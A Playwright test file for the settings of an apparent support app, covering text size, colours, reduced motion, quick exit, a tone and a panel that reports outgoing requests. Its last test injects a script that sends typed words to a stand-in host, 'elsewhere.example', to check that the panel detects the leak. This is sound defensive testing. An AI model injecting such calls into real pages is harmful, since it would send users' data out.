import { expect, test, type Page } from '@playwright/test';
import { aboutMendWords } from '../../src/content/interface/about-mend';
import { frameWords } from '../../src/content/interface/frame';
import { settingsWords as words } from '../../src/content/interface/settings';
import { settleWords } from '../../src/content/interface/settle';
import { expectNoBarrier } from './barriers';
import { serveCarelessly } from './careless-host';
import { soakedBut } from './soaked';
import { leaveByShift, watch } from './walker';

// The worker has tests of its own; brought to every fresh browser here, it would only take time.
test.use({ serviceWorkers: 'block' });

const sizeOf = (page: Page): Promise<number> =>
  page.evaluate(() => Number.parseFloat(getComputedStyle(document.documentElement).fontSize));

/** Opens the settings and waits until what was chosen earlier has been read. */
async function openSettings(page: Page): Promise<void> {
  await page.goto('/settings');
  await page.locator('html[data-appearance]').waitFor();
}

async function choose(page: Page, name: string): Promise<void> {
  await openSettings(page);
  await page.getByRole('radio', { name }).check();
}

async function chooseSite(page: Page, site: string): Promise<void> {
  await openSettings(page);
  await page.getByText(words.goesTo('Wikipedia')).click();
  await page.getByRole('radio', { name: site }).check();
  await page.reload();
  await expect(page.getByText(words.goesTo(site))).toBeVisible();
}

test('the text grows at once, stays so over a reload, and on every page; paper keeps its own size', async ({
  page,
}) => {
  await openSettings(page);
  const usual = await sizeOf(page);
  await page.getByRole('radio', { name: 'Larger' }).check();
  const larger = await sizeOf(page);
  expect(larger).toBeGreaterThan(usual * 1.1);
  await page.getByRole('radio', { name: 'Largest' }).check();
  const largest = await sizeOf(page);
  expect(largest).toBeGreaterThan(larger * 1.1);
  await page.reload();
  await expect(page.getByRole('radio', { name: 'Largest' })).toBeChecked();
  for (const address of ['/', '/support', '/repair/example-the-last-train/words', '/learn/flooding']) {
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect.poll(() => sizeOf(page), address).toBe(largest);
  }
  await page.emulateMedia({ media: 'print' });
  expect(await sizeOf(page)).toBeCloseTo((11 * 96) / 72, 1);
});

test('chosen text and colors are there before a page shows anything, where its own script draws it', async ({
  page,
}) => {
  await choose(page, 'Largest');
  await page.getByRole('radio', { name: 'Night' }).check();
  await expect(page.locator('html')).toHaveAttribute('data-text', 'largest');
  await page.addInitScript(() => {
    new MutationObserver((_, observer) => {
      if (![...document.querySelectorAll('h1')].some((heading) => heading.checkVisibility())) return;
      observer.disconnect();
      const { text, appearance } = document.documentElement.dataset;
      Object.assign(window, { atFirst: `${text} ${appearance}` });
    }).observe(document, { childList: true, subtree: true });
  });
  for (const address of ['/settle', '/repair/example-the-last-train/naming/camera', '/settings']) {
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.evaluate(() => (window as unknown as { atFirst: string }).atFirst), address).toBe(
      'largest night',
    );
  }
});

test('with the largest text nothing has to be scrolled sideways at 320 pixels, nor at 200 %, and nothing is a barrier', async ({
  page,
}) => {
  await choose(page, 'Largest');
  for (const address of [
    '/',
    '/support',
    '/settings',
    '/settings/about',
    '/settle',
    '/begin/heat',
    '/repair/example-the-last-train/naming/feelings',
    '/repair/example-the-last-train/co-creation/loop',
    '/repair/example-the-last-train/words',
    '/learn/flooding',
    '/therapist',
  ]) {
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.locator('html')).toHaveAttribute('data-text', 'largest');
    // 640 is what a window of 1280 pixels measures at 200 %.
    for (const width of [320, 640]) {
      await page.setViewportSize({ width, height: 640 });
      const [content, screen] = await page.evaluate(() => [
        document.documentElement.scrollWidth,
        document.documentElement.clientWidth,
      ]);
      expect(content, `${address} at ${width}`).toBeLessThanOrEqual(screen ?? 0);
    }
    const exit = page.getByRole('link', { name: frameWords.leave, exact: true });
    await page.setViewportSize({ width: 320, height: 640 });
    await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
    await expect(exit, address).toBeInViewport({ ratio: 1 });
  }
  for (const address of ['/settings', '/settings/about']) {
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expectNoBarrier(page);
  }
});

test.describe('where the device asks for nothing', () => {
  test.use({ contextOptions: { reducedMotion: 'no-preference' } });

  /** Whether the line to breathe with moves, once it was started. */
  async function doesMove(page: Page): Promise<boolean> {
    await page.goto('/settle');
    await page.getByRole('button', { name: settleWords.breathe }).click();
    const line = page.locator('svg[data-moving] g');
    const at = () => line.evaluate((each) => each.getBoundingClientRect().x);
    const before = await at();
    await page.waitForTimeout(400);
    return (await at()) !== before;
  }

  test('less movement holds still what moves, as a device that asks for it does, and stays chosen', async ({
    page,
  }) => {
    expect(await doesMove(page)).toBe(true);
    await openSettings(page);
    await page.getByRole('checkbox', { name: words.lessMotion }).check();
    await expect(page.locator('html')).toHaveAttribute('data-motion', 'less');
    expect(await doesMove(page)).toBe(false);
    const takes = await page.evaluate(() =>
      getComputedStyle(document.documentElement).getPropertyValue('--quick').trim(),
    );
    expect(Number.parseFloat(takes)).toBe(0);
    await openSettings(page);
    await page.getByRole('checkbox', { name: words.lessMotion }).uncheck();
    expect(await doesMove(page)).toBe(true);
    await page.emulateMedia({ reducedMotion: 'reduce' });
    expect(await doesMove(page)).toBe(false);
  });
});

for (const [site, address] of [
  ['The weather', frameWords.leaveAddresses.weather],
  ['World news', frameWords.leaveAddresses.news],
  ['A search page', frameWords.leaveAddresses.search],
] as const) {
  test(`leaving quickly goes where one chose, past the app’s own list of addresses: ${site}${soakedBut(site === 'The weather')}`, async ({
    page,
    context,
  }) => {
    await context.route(address, (route) => route.fulfill({ body: 'elsewhere' }));
    await chooseSite(page, site);
    await page.goto('/settle');
    const exit = page.getByRole('link', { name: frameWords.leave, exact: true });
    await expect(exit).toHaveAttribute('href', address);
    const before = await page.evaluate(() => history.length);
    await leaveByShift(page);
    await expect(page).toHaveURL(address);
    expect(await page.evaluate(() => history.length)).toBe(before);
  });
}

test('leaving quickly can go to a blank page', async ({ page }) => {
  const { troubles } = watch(page);
  await chooseSite(page, 'A blank page');
  await page.goto('/');
  await expect(page.getByRole('link', { name: frameWords.leave })).toHaveAttribute('href', 'about:blank');
  await leaveByShift(page);
  await expect(page).toHaveURL('about:blank');
  expect(await page.locator('body').innerText()).toBe('');
  expect(troubles).toEqual([]);
});

test('the soft tone can be heard in the settings, and needs no file', async ({ page }) => {
  const { troubles } = watch(page);
  await page.addInitScript(() => {
    const { createOscillator } = AudioContext.prototype;
    Object.assign(window, { notes: 0 });
    AudioContext.prototype.createOscillator = function () {
      (window as unknown as { notes: number }).notes += 1;
      return createOscillator.call(this);
    };
  });
  await page.goto('/settings');
  await page.getByRole('button', { name: words.hearIt }).click();
  await expect.poll(() => page.evaluate(() => (window as unknown as { notes: number }).notes)).toBe(2);
  await expect(page.getByText(words.notHeard)).toHaveCount(0);
  expect(troubles).toEqual([]);
});

test.describe('“Is my data leaving?”', () => {
  const answer = (page: Page) => page.getByRole('region', { name: aboutMendWords.leaving });

  test('lists every request the browser saw this page make, and says no', async ({ page, baseURL }) => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(new URL(request.url()).pathname));
    await page.goto('/');
    await page.getByRole('link', { name: 'Settings' }).click();
    await page.getByRole('link', { name: words.toAbout }).click();
    await page.waitForLoadState('networkidle');
    const region = answer(page);
    await expect(region).toContainText(aboutMendWords.other);
    await expect(region.getByRole('alert')).toBeEmpty();
    await region.locator('summary').click();
    const listed = await region.getByRole('listitem').allInnerTexts();
    const paths = listed.map((each) => each.replace(/ \(\d+ times\)$/, ''));
    // What installing would ask for, and the icon of the tab, the browser fetches on its own.
    const own = asked.filter((path) => !/\.webmanifest$|^\/mark/.test(path));
    expect(own.length).toBeGreaterThan(10);
    expect(own.filter((path) => !paths.includes(path))).toEqual([]);
    expect(paths.filter((path) => !asked.includes(path) && !path.startsWith('/mark'))).toEqual([]);
    expect(baseURL && (await region.innerText()).includes(baseURL)).toBe(false);
  });

  test('grows while it is watched, with what is opened', async ({ page }) => {
    await page.goto('/settings/about');
    await page.waitForLoadState('networkidle');
    await answer(page).locator('summary').click();
    await expect(answer(page).getByText(/^\/assets\/licenses-/)).toHaveCount(0);
    await page.getByText(aboutMendWords.showLicenses).click();
    await expect(answer(page).getByText(/^\/assets\/licenses-/)).toHaveCount(1);
    await expect(page.getByText(/^react-dom /)).toBeVisible();
  });

  test('forgets none after the first 250', async ({ page }) => {
    await page.goto('/settings');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.waitForLoadState('networkidle');
    await page.evaluate(async () => {
      for (let at = 0; at < 300; at += 1) {
        const picture = new Image();
        picture.src = `/mark.svg?at=${at}`;
        await picture.decode().catch(() => undefined);
      }
    });
    await page.getByRole('link', { name: words.toAbout }).click();
    await expect(answer(page).getByRole('alert')).toContainText('/mark.svg?at=299');
    await expect(answer(page).getByRole('alert')).toContainText(aboutMendWords.yes(300));
  });

  test.describe('with the policy lifted', () => {
    test.use({ bypassCSP: true });

    test('says so first where a request leaves, to another address or with more than a file’s name to this one', async ({
      page,
      context,
    }) => {
      const host = await serveCarelessly({ change: () => ({}) });
      try {
        await context.route('https://elsewhere.example/**', (route) =>
          route.fulfill({ body: 'taken', headers: { 'Access-Control-Allow-Origin': '*' } }),
        );
        await page.addInitScript(() => {
          addEventListener('load', () => {
            void fetch('https://elsewhere.example/take?words=typed#hidden').catch(() => undefined);
            void fetch('/collect?words=typed').catch(() => undefined);
          });
        });
        await page.goto(`${host.address}/settings/about`);
        const alert = answer(page).getByRole('alert');
        await expect(alert).toContainText(aboutMendWords.yes(2));
        await expect(
          alert.getByText('https://elsewhere.example/take?words=typed', { exact: true }),
        ).toBeVisible();
        await expect(alert.getByText('/collect?words=typed', { exact: true })).toBeVisible();
        await expect(answer(page)).not.toContainText('hidden');
        await expect(answer(page)).not.toContainText(aboutMendWords.other);
      } finally {
        await page.close();
        await host.close();
      }
    });
  });
});
